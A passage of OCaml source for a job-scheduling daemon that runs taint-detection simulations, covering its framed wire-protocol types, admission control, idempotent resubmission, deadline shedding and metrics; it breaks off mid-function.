    and every corruption maps to a typed {!error} (no exceptions
    escape).  After any error the stream is unsalvageable by design:
    framing is length-prefixed, so the only safe response is an
    {!Error_frame} and a close.

    Version 2 appends an optional trace correlation id — (client-seeded
    63-bit trace id, per-job span id) — as a {e trailing} field of
    Submit specs and Finished/Job_failed events.  The field is simply
    absent when no id was attached, so traceless v2 frames are
    byte-identical to their v1 rendering, and decoding is
    version-tolerant: v1 frames yield [trace = None].

    Version 3 continues the trailing-optional cascade on Submit specs
    with an idempotency key ([spec_idem]: resubmitting a key the
    server has seen replays the original admission/result instead of
    running the job again) and a completion deadline
    ([spec_deadline]: the server sheds the job at admission when its
    queue cannot meet it).  A trailing run of absent fields costs
    zero bytes; an absent field before a present one costs one
    explicit presence-0 byte — so specs using no v3 feature stay
    byte-identical to their v2 rendering and v1/v2 frames decode with
    [spec_idem = None], [spec_deadline = None]. *)

val version : int

val min_version : int
(** Oldest frame version {!split_frame} still accepts (1). *)
val header_bytes : int

val max_payload : int
(** 16 MiB — frames announcing more are rejected from the 8-byte
    header alone, before any payload buffering. *)

type error =
  | Bad_magic
  | Bad_version of int
  | Bad_tag of int
  | Oversized of int  (** announced payload length *)
  | Malformed of string  (** payload structure violation *)

val error_message : error -> string

(** {1 Job description}

    The serializable subset of {!Ptaint_campaign.Job.t}: symbolic
    source payload, remote-safe config fields, structural fault plan.
    Local-only parts (pre-built [Image] payloads, [expect] closures,
    host [fs_init]) never cross the socket. *)

type wire_payload =
  | Wire_asm of string  (** SIMIPS assembly source *)
  | Wire_c of string  (** Mini-C source *)

type job_spec = {
  spec_tag : string;
  spec_payload : wire_payload;
  spec_policy : string option;
      (** canonical policy label ({!Ptaint_sim.Sim.policy_of_label}) *)
  spec_argv : string list;
  spec_env : (string * string) list;
  spec_stdin : string;
  spec_sessions : string list list;
  spec_max_instructions : int option;
  spec_injections : Ptaint_fi.Fi.injection list;
  spec_timeout : float option;
      (** seconds; carried as integer microseconds on the wire *)
  spec_trace : (int * int) option;
      (** correlation id: (trace id, span id); trailing v2 field,
          [None] on v1 frames *)
  spec_idem : string option;
      (** idempotency key; trailing v3 field.  Two submissions with
          the same key run the job at most once — the second receives
          the original job id (and, when already finished, a replay
          of the original terminal event). *)
  spec_deadline : float option;
      (** completion SLA in seconds from admission; trailing v3
          field, carried as integer microseconds.  Admission rejects
          the job when queue depth × observed job duration says the
          deadline cannot be met. *)
}

val job_spec :
  ?policy:string ->
  ?argv:string list ->
  ?env:(string * string) list ->
  ?stdin:string ->
  ?sessions:string list list ->
  ?max_instructions:int ->
  ?injections:Ptaint_fi.Fi.injection list ->
  ?timeout:float ->
  ?trace:int * int ->
  ?idem:string ->
  ?deadline:float ->
  tag:string ->
  wire_payload ->
  job_spec

val job_of_spec : job_spec -> (Ptaint_campaign.Job.t, string) result
(** Materialize the unified job the campaign engine runs.  [Error]
    carries a human-readable message (unknown policy label). *)

val spec_of_job :
  ?policy:string -> Ptaint_campaign.Job.t -> (job_spec, string) result
(** Wire form of a local job; [Error] for [Image] payloads, which
    have no stable content serialization. *)

(** {1 Frames} *)

type request =
  | Hello of { client : string }
  | Submit of job_spec
  | Stats
  | Stats_full
      (** full telemetry snapshot; answered with {!Stats_full_ok}
          carrying Prometheus text exposition *)
  | Ping of string  (** payload echoed back in {!Pong} *)
  | Quit  (** polite goodbye; the server drops the connection *)

type event =
  | Started of { id : int }
  | Finished of {
      id : int;
      tag : string;
      outcome : string;  (** rendered {!Ptaint_sim.Sim.pp_outcome} *)
      exit_code : int;  (** process-style: guest exit code, 3 alert, 4 fault *)
      instructions : int;
      syscalls : int;
      policy_label : string;
      cache_hit : bool;  (** booted from the daemon's snapshot cache *)
      counters : (string * int) list;
          (** {!Ptaint_campaign.Campaign.job_counters} deltas, in
              registration order — merging them per label in
              submission order rebuilds the batch runner's metrics
              registries byte-for-byte *)
      stdout : string;
      trace : (int * int) option;
    }
  | Job_failed of {
      id : int;
      tag : string;
      kind : string;  (** {!Ptaint_campaign.Campaign.kind_name} *)
      message : string;
      policy_label : string;
      counters : (string * int) list;
      trace : (int * int) option;
    }

type response =
  | Hello_ok of { server_version : int; banner : string }
  | Accepted of { id : int; tag : string }
  | Rejected of { tag : string; reason : string }
      (** admission control: queue full, quota exceeded, bad policy *)
  | Job_event of event
  | Stats_ok of (string * int) list  (** daemon counters, e.g. [daemon/cache-hit] *)
  | Stats_full_ok of string
      (** Prometheus text exposition (format 0.0.4) of the daemon's
          full metrics registry *)
  | Pong of string
  | Error_frame of string  (** protocol-level failure; connection closes *)

val encode_request : request -> string
val encode_response : response -> string

val decode_request : string -> ((request * int) option, error) result
(** Decode one frame from the front of [buf].  [Ok None]: incomplete.
    [Ok (Some (req, consumed))]: drop [consumed] bytes and go again. *)

val decode_response : string -> ((response * int) option, error) result

val split_frame :
  ?max_payload:int -> string -> ((int * string * int) option, error) result
(** Lower-level framing: [(tag, payload, consumed)] without payload
    parsing — exposed for tests and forward-compatible readers. *)
