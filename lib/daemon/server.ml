(* ptaintd server: a single-threaded event loop over a Unix-domain
   socket, scheduling detection jobs onto a persistent Pool.service of
   worker domains.

   Concurrency discipline — three worlds, narrow bridges:

   - The EVENT LOOP owns every connection (buffers, admission
     counters, the listen socket).  It never blocks: [select] with
     non-blocking fds, partial reads accumulated per connection until
     {!Proto} yields a frame.
   - WORKER DOMAINS own job execution.  A worker touches only the
     image cache (internally locked) and the completion queue; it
     never sees a file descriptor.
   - The COMPLETION QUEUE (mutex + self-pipe) is the only bridge
     back: workers push ready-to-send responses, write one byte into
     the self-pipe, and the loop drains both on wakeup.  If the
     client vanished mid-job the response is dropped on the floor —
     job accounting lives in the queue entries, not the connection,
     so a mid-job disconnect can never wedge the drain logic.

   Hostile clients are a protocol concern, not a scheduling one: a
   half-frame slowloris just sits in its buffer, an oversized or
   garbled frame earns an [Error_frame] and a close (length-prefixed
   framing cannot resynchronise), and admission control (global queue
   bound + per-client inflight quota) answers [Rejected] instead of
   queueing unboundedly.  SIGTERM-driven shutdown is a drain: stop
   accepting, reject new submissions, finish everything in flight,
   flush every outbox, then return. *)

module Campaign = Ptaint_campaign.Campaign
module Job = Ptaint_campaign.Job
module Log = Ptaint_obs.Log
module Metrics = Ptaint_obs.Metrics

type config = {
  socket_path : string;
  domains : int option;
  max_queue : int;  (** jobs admitted but not yet finished, server-wide *)
  max_inflight : int;  (** per-connection admission quota *)
  cache_capacity : int;
  job_timeout : float option;  (** default watchdog; a job's own wins *)
  banner : string;
  log : Ptaint_obs.Log.t option;  (** structured lifecycle log *)
  metrics_sock : string option;
      (** scrape endpoint: connect, read Prometheus text, EOF *)
  trace_path : string option;
      (** Chrome trace of completed jobs, written at drain (pid 2) *)
  isolate : bool;
      (** run jobs in forked worker processes under a supervision
          tree instead of in-process domains *)
  workers : int option;  (** worker processes when [isolate]; default 2 *)
}

let default_config ~socket_path =
  { socket_path; domains = None; max_queue = 256; max_inflight = 32;
    cache_capacity = 64; job_timeout = None; banner = "ptaintd"; log = None;
    metrics_sock = None; trace_path = None; isolate = false; workers = None }

type conn = {
  fd : Unix.file_descr;
  cid : int;
  inbuf : Buffer.t;
  outq : Buffer.t;
  mutable out_off : int;  (* bytes of [outq] already written *)
  mutable inflight : int;
  mutable close_after_flush : bool;
      (* Quit, or a protocol error: flush the outbox, then hang up *)
  mutable broken : bool;  (* stop parsing input; stream unsalvageable *)
}

(* What the loop needs to account for a finished job — metrics,
   structured log line, Chrome span — without re-parsing the response
   frame it is about to forward. *)
type job_info = {
  ji_id : int;
  ji_tag : string;
  ji_outcome : string;  (* outcome class or failure kind; metric label *)
  ji_cache_hit : bool;
  ji_trace : (int * int) option;
  ji_t0 : float;
  ji_t1 : float;
  ji_domain : int;  (* worker domain id; Chrome track *)
  ji_superblock : (string * int) list;
      (* translation-tier event counts (promoted / chain_hit / ...) *)
}

type completion = {
  c_cid : int;
  c_resp : Proto.response;
  c_terminal : bool;  (* finishes one admitted job *)
  c_info : job_info option;  (* terminal completions only *)
}

(* Execution backend: in-process worker domains behind a Pool.service
   (fast, shared cache) or forked worker processes behind a
   supervision tree (--isolate: crash containment, preemptive
   deadlines).  Two-phase init — the supervisor's callbacks close
   over [t], so the field is filled right after the record exists and
   never observed empty outside [create]. *)
type backend =
  | In_process of Ptaint_pool.Pool.service
  | Isolated of Supervisor.t

(* Idempotency: a key the server has seen maps to the live admission
   (so a resubmit attaches instead of re-running) or to the original
   terminal event (so a resubmit replays it verbatim). *)
type idem_state =
  | Idem_pending of { id : int; mutable cid : int }
  | Idem_done of { id : int; event : Proto.event }

type t = {
  cfg : config;
  listen_fd : Unix.file_descr;
  wake_rd : Unix.file_descr;
  wake_wr : Unix.file_descr;
  mutable backend : backend option;
  cache : Cache.t;
  conns : (int, conn) Hashtbl.t;
  mutable next_cid : int;
  mutable next_job : int;
  mutable admitted : int;  (* queued + running, server-wide *)
  stopping : bool Atomic.t;
  cq_mu : Mutex.t;
  cq : completion Queue.t;
  (* daemon-level counters, loop-owned *)
  mutable jobs_submitted : int;
  mutable jobs_rejected : int;
  mutable jobs_completed : int;
  mutable protocol_errors : int;
  mutable clients_total : int;
  scratch : Bytes.t;  (* loop-owned read buffer *)
  metrics : Metrics.t;  (* loop-owned; workers never touch it *)
  metrics_fd : Unix.file_descr option;
  mutable spans : job_info list;  (* newest first, for the drain-time trace *)
  mutable spans_count : int;
  mutable spans_dropped : int;
  idem : (string, idem_state) Hashtbl.t;
  idem_order : string Queue.t;  (* FIFO eviction of finished keys *)
  idem_of_job : (int, string) Hashtbl.t;  (* live job id -> its key *)
  routes : (int, int) Hashtbl.t;  (* job id -> rerouted cid, idem resubmits *)
}

let max_idem_entries = 4096

let backend_exn t =
  match t.backend with
  | Some b -> b
  | None -> invalid_arg "ptaintd: backend used before init"

let worker_count t =
  match backend_exn t with
  | In_process pool -> Ptaint_pool.Pool.service_size pool
  | Isolated sup -> Supervisor.size sup

let log_src = "ptaintd"

let linfo t msg fields =
  match t.cfg.log with Some l -> Log.info l ~src:log_src msg fields | None -> ()

let lwarn t msg fields =
  match t.cfg.log with Some l -> Log.warn l ~src:log_src msg fields | None -> ()

let ldebug t msg fields =
  match t.cfg.log with Some l -> Log.debug l ~src:log_src msg fields | None -> ()

let trace_fields = function
  | None -> []
  | Some (tid, span) -> [ Log.str "trace" (Log.hex_id tid); Log.int "span" span ]

(* Metric helpers — get-or-create is a hash lookup, cheap enough to
   do at the call site and keeps hot counters next to their events. *)
let mcount t ?labels name = Metrics.inc (Metrics.counter t.metrics ?labels name)
let mobserve t name v = Metrics.observe (Metrics.histogram t.metrics name) v

let bind_unix_listener path ~backlog =
  (match Unix.lstat path with
   | { Unix.st_kind = Unix.S_SOCK; _ } -> Unix.unlink path
   | _ -> invalid_arg ("ptaintd: refusing to replace non-socket " ^ path)
   | exception Unix.Unix_error (Unix.ENOENT, _, _) -> ());
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  Unix.set_nonblock fd;
  Unix.bind fd (Unix.ADDR_UNIX path);
  Unix.listen fd backlog;
  fd

let wake t =
  (* best effort: a full pipe already guarantees a wakeup *)
  try ignore (Unix.write t.wake_wr (Bytes.make 1 '!') 0 1) with Unix.Unix_error _ -> ()

let shutdown t =
  Atomic.set t.stopping true;
  wake t

(* --- completion bridge (worker side) --------------------------------- *)

let push_completion t c =
  Mutex.lock t.cq_mu;
  Queue.push c t.cq;
  Mutex.unlock t.cq_mu;
  wake t

(* Robustness families must render in every scrape, including a
   freshly started daemon's — chaos harnesses assert on them at zero.
   The registry only renders created metrics, so create them now. *)
let preregister_metrics m =
  List.iter
    (fun reason ->
      ignore
        (Metrics.counter m ~labels:[ ("reason", reason) ]
           "ptaintd_worker_restarts_total"))
    [ "crash"; "heartbeat"; "deadline" ];
  ignore (Metrics.counter m "ptaintd_redeliveries_total");
  ignore (Metrics.counter m "ptaintd_heartbeat_misses_total");
  ignore
    (Metrics.counter m ~labels:[ ("reason", "deadline") ]
       "ptaintd_jobs_shed_total");
  ignore (Metrics.counter m "ptaintd_idem_replays_total")

let create (cfg : config) =
  let listen_fd = bind_unix_listener cfg.socket_path ~backlog:64 in
  let metrics_fd =
    Option.map (fun p -> bind_unix_listener p ~backlog:16) cfg.metrics_sock
  in
  let wake_rd, wake_wr = Unix.pipe () in
  Unix.set_nonblock wake_rd;
  let metrics = Metrics.create () in
  preregister_metrics metrics;
  let t =
    { cfg;
      listen_fd;
      wake_rd;
      wake_wr;
      backend = None;
      cache = Cache.create ~capacity:cfg.cache_capacity ();
      conns = Hashtbl.create 16;
      next_cid = 1;
      next_job = 1;
      admitted = 0;
      stopping = Atomic.make false;
      cq_mu = Mutex.create ();
      cq = Queue.create ();
      jobs_submitted = 0;
      jobs_rejected = 0;
      jobs_completed = 0;
      protocol_errors = 0;
      clients_total = 0;
      scratch = Bytes.create 65536;
      metrics;
      metrics_fd;
      spans = [];
      spans_count = 0;
      spans_dropped = 0;
      idem = Hashtbl.create 64;
      idem_order = Queue.create ();
      idem_of_job = Hashtbl.create 64;
      routes = Hashtbl.create 16 }
  in
  (if cfg.isolate then begin
     (* Fork the worker fleet before any domain exists in this
        process — fork and the multicore runtime do not mix, which is
        also why the isolated backend never creates a Pool.service. *)
     let emit ~cid resp ~terminal ~info =
       let c_info =
         Option.map
           (fun (i : Supervisor.done_info) ->
             { ji_id = i.Supervisor.i_id; ji_tag = i.i_tag;
               ji_outcome = i.i_outcome; ji_cache_hit = i.i_cache_hit;
               ji_trace = i.i_trace; ji_t0 = i.i_t0; ji_t1 = i.i_t1;
               ji_domain = i.i_worker; ji_superblock = [] })
           info
       in
       push_completion t { c_cid = cid; c_resp = resp; c_terminal = terminal; c_info }
     in
     let close_in_child () =
       t.listen_fd :: t.wake_rd :: t.wake_wr
       :: (match t.metrics_fd with Some fd -> [ fd ] | None -> [])
       @ Hashtbl.fold (fun _ c acc -> c.fd :: acc) t.conns []
     in
     let sup_cfg =
       { (Supervisor.default_config ~emit) with
         Supervisor.workers = (match cfg.workers with Some n -> max 1 n | None -> 2);
         job_timeout = cfg.job_timeout;
         cache_capacity = max 1 (cfg.cache_capacity / 4);
         log = cfg.log;
         metrics = Some metrics;
         close_in_child }
     in
     t.backend <- Some (Isolated (Supervisor.create sup_cfg))
   end
   else
     t.backend <- Some (In_process (Ptaint_pool.Pool.service ?domains:cfg.domains ())));
  t

(* Runs on a worker domain (in-process backend only; the isolated
   backend's equivalent lives in {!Worker} + {!Supervisor}).  Every
   path pushes exactly one terminal completion — that invariant is
   what lets the loop's drain logic count jobs instead of trusting
   connections. *)
let run_job_task t ~cid ~id (spec : Job.t) () =
  let t0 = Unix.gettimeofday () in
  push_completion t
    { c_cid = cid; c_resp = Proto.Job_event (Proto.Started { id });
      c_terminal = false; c_info = None };
  let result =
    match
      (* Build-or-hit outside the classification net is wrong: a
         malformed source must fail the job, not the worker.  So the
         cache consult itself is guarded; on a toolchain error we fall
         through to a bare run whose rebuild fails identically and is
         classified ([Loader_error]) by the campaign machinery. *)
      match Cache.obtain t.cache spec with
      | entry, hit -> `Cached (entry, hit)
      | exception _ -> `Build_failed
    with
    | `Cached (entry, hit) ->
      let run_sim ~deadline config _program =
        Ptaint_sim.Sim.run_template ?deadline ~config entry.Cache.template
      in
      (Campaign.run_job ?job_timeout:t.cfg.job_timeout ~run_sim
         ~program:entry.Cache.program spec, hit)
    | `Build_failed ->
      (Campaign.run_job ?job_timeout:t.cfg.job_timeout spec, false)
  in
  let r, cache_hit = result in
  let ev = Worker.event_of_job_result ~id ~job:spec ~cache_hit r in
  let resp = Proto.Job_event ev in
  let outcome = Worker.outcome_of_event ev in
  let superblock =
    match r.Campaign.status with
    | Campaign.Finished res ->
      Ptaint_cpu.Machine.superblock_counters res.Ptaint_sim.Sim.machine
    | Campaign.Failed _ -> []
  in
  let info =
    { ji_id = id; ji_tag = spec.Job.tag; ji_outcome = outcome;
      ji_cache_hit = cache_hit; ji_trace = spec.Job.trace;
      ji_t0 = t0; ji_t1 = Unix.gettimeofday ();
      ji_domain = (Domain.self () :> int);
      ji_superblock = superblock }
  in
  push_completion t { c_cid = cid; c_resp = resp; c_terminal = true; c_info = Some info }

(* --- event loop (connection side) ------------------------------------ *)

let send conn resp = Buffer.add_string conn.outq (Proto.encode_response resp)

let disconnect t conn =
  Hashtbl.remove t.conns conn.cid;
  (try Unix.close conn.fd with Unix.Unix_error _ -> ());
  ldebug t "client disconnected" [ Log.int "cid" conn.cid ]

let reject t conn ~tag reason =
  t.jobs_rejected <- t.jobs_rejected + 1;
  mcount t "ptaintd_jobs_rejected_total";
  lwarn t "job rejected"
    [ Log.int "cid" conn.cid; Log.str "tag" tag; Log.str "reason" reason ];
  send conn (Proto.Rejected { tag; reason })

let daemon_counters t =
  Cache.counters t.cache
  @ [ ("daemon/jobs-submitted", t.jobs_submitted);
      ("daemon/jobs-completed", t.jobs_completed);
      ("daemon/jobs-rejected", t.jobs_rejected);
      ("daemon/jobs-inflight", t.admitted);
      ("daemon/protocol-errors", t.protocol_errors);
      ("daemon/clients-now", Hashtbl.length t.conns);
      ("daemon/clients-total", t.clients_total);
      ("daemon/workers", worker_count t) ]

(* One telemetry snapshot: refresh every level-triggered gauge from
   loop state, then render the whole registry.  Event-driven counters
   and histograms (jobs, bytes, latency, lag) are maintained where the
   events happen and need no refresh here. *)
let scrape t =
  let g ?labels name v = Metrics.set (Metrics.gauge t.metrics ?labels name) v in
  g "ptaintd_queue_depth" (float_of_int t.admitted);
  g "ptaintd_clients_connected" (float_of_int (Hashtbl.length t.conns));
  g "ptaintd_workers" (float_of_int (worker_count t));
  Hashtbl.iter
    (fun cid conn ->
      g ~labels:[ ("cid", string_of_int cid) ] "ptaintd_client_inflight"
        (float_of_int conn.inflight))
    t.conns;
  List.iter
    (fun (k, v) ->
      match k with
      | "daemon/cache-hit" -> g "ptaintd_cache_hits" (float_of_int v)
      | "daemon/cache-miss" -> g "ptaintd_cache_misses" (float_of_int v)
      | "daemon/cache-evictions" -> g "ptaintd_cache_evictions" (float_of_int v)
      | "daemon/cache-entries" -> g "ptaintd_cache_entries" (float_of_int v)
      | "daemon/cache-capacity" -> g "ptaintd_cache_capacity" (float_of_int v)
      | _ -> ())
    (Cache.counters t.cache);
  Metrics.prometheus t.metrics

(* Deadline-aware admission: estimate this job's completion time from
   the observed duration histogram and current queue depth, and shed
   jobs the queue provably cannot serve in time — a typed [Rejected]
   now beats a useless result after the client stopped waiting.  With
   no duration evidence yet the job is admitted. *)
let deadline_shed t (spec : Proto.job_spec) =
  match spec.Proto.spec_deadline with
  | None -> None
  | Some budget ->
    let mean_us =
      List.fold_left
        (fun acc (r : Metrics.row) ->
          if r.Metrics.name = "ptaintd_job_duration_us" && r.Metrics.count > 0
          then Some r.Metrics.mean
          else acc)
        None (Metrics.rows t.metrics)
    in
    (match mean_us with
     | None -> None
     | Some mean_us ->
       let workers = max 1 (worker_count t) in
       let waves = (t.admitted / workers) + 1 in
       let est = mean_us /. 1e6 *. float_of_int waves in
       if est > budget then
         Some
           (Printf.sprintf
              "deadline %.3fs unmeetable: %d jobs ahead on %d workers, \
               estimated %.3fs"
              budget t.admitted workers est)
       else None)

let admit t conn (spec : Proto.job_spec) ~tag (job : Job.t) =
  let id = t.next_job in
  t.next_job <- t.next_job + 1;
  t.jobs_submitted <- t.jobs_submitted + 1;
  t.admitted <- t.admitted + 1;
  conn.inflight <- conn.inflight + 1;
  mcount t "ptaintd_jobs_submitted_total";
  (match spec.Proto.spec_idem with
   | Some key ->
     Hashtbl.replace t.idem key (Idem_pending { id; cid = conn.cid });
     Hashtbl.replace t.idem_of_job id key
   | None -> ());
  ldebug t "job admitted"
    (Log.int "cid" conn.cid :: Log.int "id" id :: Log.str "tag" tag
     :: trace_fields job.Job.trace);
  send conn (Proto.Accepted { id; tag });
  match backend_exn t with
  | In_process pool ->
    Ptaint_pool.Pool.post pool (run_job_task t ~cid:conn.cid ~id job)
  | Isolated sup ->
    Supervisor.submit sup ~id ~cid:conn.cid
      ~label:(Campaign.label_of_policy job.Job.config.Ptaint_sim.Sim.policy)
      ~trace:job.Job.trace spec

let handle_request t conn = function
  | Proto.Hello _ ->
    send conn
      (Proto.Hello_ok { server_version = Proto.version; banner = t.cfg.banner })
  | Proto.Ping payload -> send conn (Proto.Pong payload)
  | Proto.Stats -> send conn (Proto.Stats_ok (daemon_counters t))
  | Proto.Stats_full -> send conn (Proto.Stats_full_ok (scrape t))
  | Proto.Quit -> conn.close_after_flush <- true
  | Proto.Submit spec ->
    let tag = spec.Proto.spec_tag in
    (* Idempotency wins over every other admission rule: a dedup hit
       creates no new work, so it is answered even while draining or
       full — exactly when a retrying client needs it most. *)
    let idem_hit =
      match spec.Proto.spec_idem with
      | None -> None
      | Some key -> Hashtbl.find_opt t.idem key
    in
    (match idem_hit with
     | Some (Idem_done { id; event }) ->
       mcount t "ptaintd_idem_replays_total";
       ldebug t "idempotent replay"
         [ Log.int "cid" conn.cid; Log.int "id" id; Log.str "tag" tag ];
       send conn (Proto.Accepted { id; tag });
       send conn (Proto.Job_event event)
     | Some (Idem_pending p) ->
       mcount t "ptaintd_idem_replays_total";
       if p.cid <> conn.cid then begin
         (* reroute the eventual result to the newest submitter; the
            admission quota moves with it *)
         (match Hashtbl.find_opt t.conns p.cid with
          | Some old -> old.inflight <- old.inflight - 1
          | None -> ());
         conn.inflight <- conn.inflight + 1;
         p.cid <- conn.cid;
         Hashtbl.replace t.routes p.id conn.cid
       end;
       ldebug t "idempotent reattach"
         [ Log.int "cid" conn.cid; Log.int "id" p.id; Log.str "tag" tag ];
       send conn (Proto.Accepted { id = p.id; tag })
     | None ->
       if Atomic.get t.stopping then reject t conn ~tag "server is draining"
       else if t.admitted >= t.cfg.max_queue then
         reject t conn ~tag
           (Printf.sprintf "queue full (%d jobs in flight)" t.admitted)
       else if conn.inflight >= t.cfg.max_inflight then
         reject t conn ~tag
           (Printf.sprintf "client quota exceeded (%d jobs in flight)"
              conn.inflight)
       else
         match deadline_shed t spec with
         | Some reason ->
           mcount t ~labels:[ ("reason", "deadline") ] "ptaintd_jobs_shed_total";
           reject t conn ~tag reason
         | None ->
           (match Proto.job_of_spec spec with
            | Error m -> reject t conn ~tag m
            | Ok job -> admit t conn spec ~tag job))

let protocol_failure t conn err =
  t.protocol_errors <- t.protocol_errors + 1;
  mcount t "ptaintd_protocol_errors_total";
  lwarn t "protocol error"
    [ Log.int "cid" conn.cid; Log.str "error" (Proto.error_message err) ];
  send conn (Proto.Error_frame (Proto.error_message err));
  conn.broken <- true;
  conn.close_after_flush <- true

(* Parse as many whole frames as the buffer holds.  The buffer is
   rebuilt rather than shifted; frames are small relative to the 16 MiB
   cap, so the copy is noise. *)
let drain_inbuf t conn =
  let rec go () =
    if conn.broken then ()
    else
      let buf = Buffer.contents conn.inbuf in
      match Proto.decode_request buf with
      | Ok None -> ()
      | Ok (Some (req, consumed)) ->
        Buffer.clear conn.inbuf;
        Buffer.add_substring conn.inbuf buf consumed (String.length buf - consumed);
        handle_request t conn req;
        go ()
      | Error err -> protocol_failure t conn err
  in
  go ()

let handle_readable t conn =
  match Unix.read conn.fd t.scratch 0 (Bytes.length t.scratch) with
  | 0 -> disconnect t conn  (* EOF; any jobs in flight finish into the void *)
  | n ->
    Metrics.inc ~by:n (Metrics.counter t.metrics "ptaintd_bytes_read_total");
    Buffer.add_subbytes conn.inbuf t.scratch 0 n;
    drain_inbuf t conn
  | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  | exception Unix.Unix_error _ -> disconnect t conn

let handle_writable t conn =
  let pending = Buffer.length conn.outq - conn.out_off in
  if pending > 0 then begin
    let chunk = Buffer.to_bytes conn.outq in
    match Unix.write conn.fd chunk conn.out_off pending with
    | n ->
      Metrics.inc ~by:n (Metrics.counter t.metrics "ptaintd_bytes_written_total");
      conn.out_off <- conn.out_off + n;
      if conn.out_off = Buffer.length conn.outq then begin
        Buffer.clear conn.outq;
        conn.out_off <- 0
      end
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
    | exception Unix.Unix_error _ -> disconnect t conn
  end;
  if Hashtbl.mem t.conns conn.cid && conn.close_after_flush
     && Buffer.length conn.outq - conn.out_off = 0
  then disconnect t conn

let accept_new t =
  let rec go () =
    match Unix.accept t.listen_fd with
    | fd, _ ->
      Unix.set_nonblock fd;
      let cid = t.next_cid in
      t.next_cid <- t.next_cid + 1;
      t.clients_total <- t.clients_total + 1;
      Hashtbl.replace t.conns cid
        { fd; cid; inbuf = Buffer.create 256; outq = Buffer.create 256;
          out_off = 0; inflight = 0; close_after_flush = false; broken = false };
      mcount t "ptaintd_clients_total";
      linfo t "client connected" [ Log.int "cid" cid ];
      go ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  in
  go ()

(* The scrape endpoint is one-shot: accept, write the snapshot,
   close.  The payload is a few KiB against a fresh Unix-socket
   buffer, so a bounded blocking write cannot wedge the loop. *)
let serve_metrics_scrapes t listen_fd =
  let rec go () =
    match Unix.accept listen_fd with
    | fd, _ ->
      (try
         Unix.clear_nonblock fd;
         let body = Bytes.of_string (scrape t) in
         let len = Bytes.length body in
         let off = ref 0 in
         let budget = ref 64 in
         while !off < len && !budget > 0 do
           decr budget;
           match Unix.write fd body !off (len - !off) with
           | n -> off := !off + n
           | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
         done
       with Unix.Unix_error _ -> ());
      (try Unix.close fd with Unix.Unix_error _ -> ());
      go ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  in
  go ()

let max_spans = 65536

(* Loop-side bookkeeping for one finished job: outcome counter,
   latency histogram, log line, Chrome span. *)
let account_finished t ji =
  Metrics.inc
    (Metrics.counter t.metrics ~labels:[ ("outcome", ji.ji_outcome) ]
       "ptaintd_jobs_total");
  (* Translation-tier telemetry, aggregated across jobs: how many
     blocks the fleet promoted, how often chains stayed linked, and
     how often taint transitions forced a variant deopt. *)
  List.iter
    (fun (event, n) ->
      if n > 0 then
        Metrics.inc ~by:n
          (Metrics.counter t.metrics ~labels:[ ("event", event) ]
             "ptaintd_superblock_events_total"))
    ji.ji_superblock;
  mobserve t "ptaintd_job_duration_us" ((ji.ji_t1 -. ji.ji_t0) *. 1e6);
  linfo t "job finished"
    (Log.int "id" ji.ji_id :: Log.str "tag" ji.ji_tag
     :: Log.str "outcome" ji.ji_outcome :: Log.bool "cache_hit" ji.ji_cache_hit
     :: Log.float "ms" ((ji.ji_t1 -. ji.ji_t0) *. 1e3)
     :: trace_fields ji.ji_trace);
  if t.cfg.trace_path <> None then begin
    if t.spans_count < max_spans then begin
      t.spans <- ji :: t.spans;
      t.spans_count <- t.spans_count + 1
    end
    else t.spans_dropped <- t.spans_dropped + 1
  end

let event_id = function
  | Proto.Started { id } -> id
  | Proto.Finished { id; _ } -> id
  | Proto.Job_failed { id; _ } -> id

(* Terminal event for a keyed job: remember it for replays, with FIFO
   eviction so the table is bounded.  Only finished keys enter the
   eviction queue — a pending key is always backed by a live admission. *)
let record_idem_done t ~id ev =
  match Hashtbl.find_opt t.idem_of_job id with
  | None -> ()
  | Some key ->
    Hashtbl.remove t.idem_of_job id;
    Hashtbl.replace t.idem key (Idem_done { id; event = ev });
    Queue.push key t.idem_order;
    while Hashtbl.length t.idem > max_idem_entries
          && not (Queue.is_empty t.idem_order) do
      let victim = Queue.pop t.idem_order in
      match Hashtbl.find_opt t.idem victim with
      | Some (Idem_done _) -> Hashtbl.remove t.idem victim
      | _ -> ()
    done

let drain_completions t =
  let batch =
    Mutex.lock t.cq_mu;
    let xs = Queue.fold (fun acc c -> c :: acc) [] t.cq in
    Queue.clear t.cq;
    Mutex.unlock t.cq_mu;
    List.rev xs
  in
  List.iter
    (fun c ->
      (* An idempotent resubmit may have rerouted this job to a newer
         connection after dispatch; the override table wins. *)
      let cid, id =
        match c.c_resp with
        | Proto.Job_event ev ->
          let id = event_id ev in
          ((match Hashtbl.find_opt t.routes id with
            | Some cid -> cid
            | None -> c.c_cid),
           Some id)
        | _ -> (c.c_cid, None)
      in
      if c.c_terminal then begin
        t.admitted <- t.admitted - 1;
        t.jobs_completed <- t.jobs_completed + 1;
        (match c.c_info with Some ji -> account_finished t ji | None -> ());
        match (id, c.c_resp) with
        | Some id, Proto.Job_event ev ->
          record_idem_done t ~id ev;
          Hashtbl.remove t.routes id
        | _ -> ()
      end;
      match Hashtbl.find_opt t.conns cid with
      | None -> ()  (* client gone mid-job: result dropped, accounting kept *)
      | Some conn ->
        if c.c_terminal then conn.inflight <- conn.inflight - 1;
        send conn c.c_resp)
    batch

let drain_wakeups t =
  let b = Bytes.create 256 in
  let rec go () =
    match Unix.read t.wake_rd b 0 256 with
    | n when n > 0 -> go ()
    | _ -> ()
    | exception Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK | Unix.EINTR), _, _) -> ()
  in
  go ()

(* All admitted jobs finished and every completion routed to an
   outbox.  Outboxes themselves are flushed best-effort on exit: a
   client that stops reading must not be able to wedge shutdown. *)
let drained t =
  t.admitted = 0 && Mutex.protect t.cq_mu (fun () -> Queue.is_empty t.cq)

let final_flush conn =
  let pending () = Buffer.length conn.outq - conn.out_off in
  let chunk = Buffer.to_bytes conn.outq in
  let rec go budget =
    if budget > 0 && pending () > 0 then
      match Unix.write conn.fd chunk conn.out_off (pending ()) with
      | n -> conn.out_off <- conn.out_off + n; go (budget - 1)
      | exception Unix.Unix_error _ -> ()
  in
